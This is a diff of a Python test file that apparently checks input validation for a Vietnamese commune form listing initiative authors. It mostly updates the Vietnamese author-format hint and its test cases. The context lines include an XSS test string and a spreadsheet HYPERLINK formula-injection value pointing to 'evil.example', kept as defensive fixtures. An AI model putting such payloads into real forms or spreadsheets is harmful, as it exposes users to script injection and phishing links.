@@ -33,7 +33,10 @@ SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?x=1","Bấm vào đây")'
 VIETNAMESE_LOWER = "aàáảãạăằắẳẵặâầấẩẫậbcdđeèéẻẽẹêềếểễệghiìíỉĩịklmnoòóỏõọôồốổỗộơờớởỡợpqrstuùúủũụưừứửữựvxyỳýỷỹỵ"
 VIETNAMESE_LETTERS = VIETNAMESE_LOWER + VIETNAMESE_LOWER.upper()
-FORMAT_HINT = "phải có dạng 'Họ tên | chức vụ | tỷ lệ %'; các tác giả cách nhau bằng dấu ;"
+FORMAT_HINT = (
+    "phải có dạng 'Họ tên | chức danh | tỷ lệ % | ngày sinh | nơi công tác | trình độ chuyên môn | "
+    "thư điện tử' (bốn mục sau có thể bỏ trống); các tác giả cách nhau bằng dấu ;"
+)
 
 UNIT = {"code": "XA01", "name": "UBND xã Vĩnh Thái", "kind": "commune"}
 INITIATIVE = {
@@ -190,15 +193,22 @@ def test_too_long_unit_name_refused_in_characters() -> None:
     [
         ("Nguyễn Văn An | 100", f"tác giả thứ 1 ('Nguyễn Văn An | 100') {FORMAT_HINT}"),
         (
-            "Nguyễn Văn An | Chủ tịch | 100 | x",
-            f"tác giả thứ 1 ('Nguyễn Văn An | Chủ tịch | 100 | x') {FORMAT_HINT}",
+            "Nguyễn Văn An | Chủ tịch | 100 | | | | | x",
+            f"tác giả thứ 1 ('Nguyễn Văn An | Chủ tịch | 100 | | | | | x') {FORMAT_HINT}",
         ),
         (
             "Nguyễn Văn An | Chủ tịch | 50; Lê Thị Bình, công chức, 50",
             f"tác giả thứ 2 ('Lê Thị Bình, công chức, 50') {FORMAT_HINT}",
         ),
         ("Nguyễn Văn An | Chủ tịch | năm mươi", "tỷ lệ đóng góp 'năm mươi' không phải số"),
-        (";", "phải có ít nhất một tác giả, dạng 'Họ tên | chức vụ | tỷ lệ %'"),
+        (
+            ";",
+            (
+                "phải có ít nhất một tác giả, dạng 'Họ tên | chức danh | tỷ lệ % | ngày sinh | "
+                "nơi công tác | "
+                "trình độ chuyên môn | thư điện tử' (bốn mục sau có thể bỏ trống)"
+            ),
+        ),
         ("; ".join(f"Tác giả {i} | Công chức | 5" for i in range(21)), "có 21 tác giả, tối đa 20"),
     ],
 )
